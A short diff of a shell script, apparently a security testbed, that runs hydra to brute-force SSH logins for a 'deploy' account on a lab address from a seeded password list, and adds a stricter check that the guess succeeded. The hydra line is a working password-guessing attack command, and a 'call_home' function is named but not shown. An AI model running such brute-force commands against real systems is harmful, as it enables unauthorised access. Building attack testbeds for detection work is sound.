@@ -11,8 +11,12 @@ write_guesses() { # 80 usual passwords, then the right one
 
 guess_passwords() {
   write_guesses
-  inside guesser hydra -I -t 4 -w 4 -f -l deploy -P "$work/guesses" ssh://192.0.2.22 >"$work/hydra.log" 2>&1
-  grep 'password:\|attempts\|valid password' "$work/hydra.log"
+  inside guesser hydra -I -t 4 -w 4 -f -l deploy -P "$work/guesses" ssh://192.0.2.22 >"$work/hydra.log" 2>&1 || true
+  grep 'valid password found' "$work/hydra.log" || {
+    echo "testbed: hydra did not get through (is the machine busy?):" >&2
+    cat "$work/hydra.log" >&2
+    exit 1
+  }
 }
 
 call_home() { # HOST SECONDS
